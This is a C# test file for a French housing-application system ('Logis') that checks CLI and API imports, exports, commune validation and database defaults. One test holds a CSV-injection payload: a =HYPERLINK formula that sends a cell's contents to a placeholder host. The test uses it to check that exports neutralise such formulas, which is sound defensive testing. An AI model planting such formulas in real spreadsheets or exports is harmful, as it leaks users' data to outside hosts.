using System.CommandLine;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Logis.Cli;
using Logis.Persistence;
using Logis.Persistence.Demandes;
using Logis.Tests.Infrastructure;
using Logis.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Logis.Web.Tests;

/// <summary>
/// The command line and the API perform the same act (ADR 0010): a file imported by <c>logis import demandes</c> is scored at
/// once, like one imported through the API, and the wished commune outside the EPCI is refused the same way on POST and PUT.
/// </summary>
[Collection(CollectionApplications.Nom)]
public class CliDemandesTests(ApplicationsFixture fx)
{
    private const string Entete = FichierDemandesApiTests.Entete;

    private static string Ligne(string nom) =>
        $"{nom},Alice,1985-05-12,Salaire=1450,1 rue A,83000,Toulon,Celibataire,LocataireParcPrive,30,LogementTropCher,T2,83137,500\r\n";

    private async Task<int> LogisAsync(string f, params string[] args)
    {
        BaseCli.Horloge = Horloges.Fixe();
        var options = fx.Options(f);
        var racine = new RootCommand { BaseCli.OptionFournisseur, BaseCli.OptionConnexion };
        racine.Subcommands.Add(CommandesFichierDemandes.Import());
        racine.Subcommands.Add(CommandesFichierDemandes.Export());
        var fournisseur = options.Fournisseur == FournisseurBase.Sqlite ? "sqlite" : "postgresql";
        return await racine.Parse([.. args, "--base", fournisseur, "--connexion", options.ConnectionString!]).InvokeAsync();
    }

    private async Task<List<(int? Total, string? Grille)>> CotationsAsync(string f, string nom)
    {
        await using var db = fx.Base(f);
        var ids = await db.Demandes.Where(d => EF.Property<string>(d, ColonnesDemande.NomDemandeur) == ColonnesDemande.Normaliser(nom))
            .Select(d => d.Id).ToListAsync();
        Assert.NotEmpty(ids);
        return (await db.CotationsDemandes.Where(c => ids.Contains(c.DemandeId)).Select(c => new { c.Total, c.GrilleId }).ToListAsync())
            .Select(c => (c.Total, c.GrilleId)).ToList();
    }

    /// <summary>
    /// CSV injection: a name a spreadsheet would run (=HYPERLINK…) leaves the export of the API and of the command after an
    /// apostrophe, as in the journal's export — one cell writer for every file (<see cref="Logis.Domain.Commun.CelluleCsv"/>).
    /// </summary>
    [Theory, DeuxBases]
    public async Task L_export_de_l_API_et_de_la_commande_neutralise_une_formule(string f)
    {
        var client = fx.App(f).ClientApi("epci");
        var nom = "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"Formuleexport\")";
        var ligne = $"\"{nom.Replace("\"", "\"\"", StringComparison.Ordinal)}\",@Formuleexport,1985-05-12,Salaire=1450,+1 rue A,83000,Toulon,Celibataire,LocataireParcPrive,30,LogementTropCher,T2,83137,500\r\n";
        var import = await client.PostAsync("/api/v1/demandes/import?essai=false", FichierDemandesApiTests.Csv(Entete + ligne));
        Assert.Equal(HttpStatusCode.Created, import.StatusCode);

        static void Verifier(string export)
        {
            var ligne = export.Split("\r\n").Single(l => l.Contains("Formuleexport", StringComparison.Ordinal));
            Assert.Contains("\"'=HYPERLINK(", ligne, StringComparison.Ordinal);
            Assert.Contains(",'@Formuleexport,", ligne, StringComparison.Ordinal);
            Assert.Contains(",'+1 rue A,", ligne, StringComparison.Ordinal);
            Assert.DoesNotContain(",=", ligne, StringComparison.Ordinal);
            Assert.DoesNotContain(",\"=", ligne, StringComparison.Ordinal);
        }
        Verifier(await client.GetStringAsync("/api/v1/demandes/export"));

        var fichier = Path.Combine(Path.GetTempPath(), $"logis-cli-export-{Guid.NewGuid():N}.csv");
        try
        {
            Assert.Equal(0, await LogisAsync(f, "export", "demandes", "--fichier", fichier, "--epci", "248300543"));
            Verifier(await File.ReadAllTextAsync(fichier));
        }
        finally
        {
            File.Delete(fichier);
        }
    }

    [Theory, DeuxBases]
    public async Task Une_demande_importee_par_la_ligne_de_commande_est_cotee_comme_par_l_api(string f)
    {
        var fichier = Path.Combine(Path.GetTempPath(), $"logis-cli-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(fichier, Entete + Ligne("Clicotee") + Ligne("Clicotee"));
        try
        {
            Assert.Equal(0, await LogisAsync(f, "import", "demandes", "--fichier", fichier, "--epci", "248300543"));
        }
        finally
        {
            File.Delete(fichier);
        }
        var parLaCli = await CotationsAsync(f, "Clicotee");
        Assert.Equal(2, parLaCli.Count);
        Assert.All(parLaCli, c => Assert.NotNull(c.Total));

        var api = fx.App(f).ClientApi("epci");
        var r = await api.PostAsync("/api/v1/demandes/import?essai=false", FichierDemandesApiTests.Csv(Entete + Ligne("Apicotee")));
        Assert.Equal(HttpStatusCode.Created, r.StatusCode);
        var parLApi = await CotationsAsync(f, "Apicotee");
        Assert.Equal(parLApi[0], parLaCli[0]);
    }

    [Theory, DeuxBases]
    public async Task Une_commune_hors_epci_donne_400_avec_le_champ_en_creation_comme_en_mise_a_jour(string f)
    {
        var api = fx.App(f).ClientApi("epci");
        var creation = await api.PostAsJsonAsync("/api/v1/demandes", DemandesApiTests.Saisie("Horsepci", "13055"));
        Assert.Equal(HttpStatusCode.BadRequest, creation.StatusCode);
        var erreursCreation = (await creation.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors");

        var numero = await DemandesApiTests.CreerAsync(api, DemandesApiTests.Saisie("Horsepci"));
        var maj = await api.PutAsJsonAsync($"/api/v1/demandes/{numero}", DemandesApiTests.Saisie("Horsepci", "13055"));
        Assert.Equal(HttpStatusCode.BadRequest, maj.StatusCode);
        Assert.Equal("application/problem+json", maj.Content.Headers.ContentType?.MediaType);
        var erreursMaj = (await maj.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors");
        Assert.Equal(erreursCreation.GetProperty("souhaits.communes")[0].GetString(), erreursMaj.GetProperty("souhaits.communes")[0].GetString());
        // Nothing changed: the wished commune is still the one of the registration.
        var apres = await api.GetFromJsonAsync<JsonElement>($"/api/v1/demandes/{numero}");
        Assert.DoesNotContain(apres.GetProperty("communes").EnumerateArray(), c => c.GetString()!.Contains("Marseille", StringComparison.Ordinal));
    }

    [Fact]
    public void Le_site_et_la_ligne_de_commande_ouvrent_la_meme_base_par_defaut()
    {
        var racine = OptionsBase.Racine();
        Assert.True(File.Exists(Path.Combine(racine, "Logis.slnx")), racine);
        var attendu = Path.Combine(racine, "var", "logis.db");
        // The web app's setting (appsettings.json) and the command line's default (no setting) resolve to the same file.
        var site = new Microsoft.Data.Sqlite.SqliteConnectionStringBuilder(new OptionsBase { ConnectionString = "Data Source=var/logis.db" }.ChaineEffective);
        var cli = new Microsoft.Data.Sqlite.SqliteConnectionStringBuilder(new OptionsBase().ChaineEffective);
        Assert.Equal(attendu, site.DataSource);
        Assert.Equal(attendu, cli.DataSource);
        // An absolute file given by the operator is kept as it is.
        var ailleurs = Path.Combine(Path.GetTempPath(), "ailleurs.db");
        Assert.Equal(ailleurs, new Microsoft.Data.Sqlite.SqliteConnectionStringBuilder(new OptionsBase { ConnectionString = $"Data Source={ailleurs}" }.ChaineEffective).DataSource);
    }

    [Theory, DeuxBases]
    public async Task Une_commande_sur_une_base_sans_territoire_le_dit_et_echoue(string f)
    {
        var options = await BasesDeTest.CreerAsync(f, "vide");
        await using var db = BasesDeTest.Ouvrir(options);
        var erreurs = new StringWriter();
        var console = Spectre.Console.AnsiConsole.Create(new Spectre.Console.AnsiConsoleSettings { Out = new Spectre.Console.AnsiConsoleOutput(TextWriter.Null) });
        Assert.Equal(2, await CommandesRelances.RelancerAsync(db, null, essai: true, null, Horloges.Fixe(),
            new Logis.Application.Relances.ExpediteurJournal(Microsoft.Extensions.Logging.Abstractions.NullLogger.Instance), console, erreurs, CancellationToken.None));
        Assert.Contains("ne contient aucun territoire", erreurs.ToString(), StringComparison.Ordinal);
        erreurs.GetStringBuilder().Clear();
        Assert.Equal(2, await CommandesRelances.PurgerAsync(db, 12, null, essai: true, Horloges.Fixe(), TextWriter.Null, erreurs, CancellationToken.None));
        Assert.Contains("seed-demo", erreurs.ToString(), StringComparison.Ordinal);
    }
}
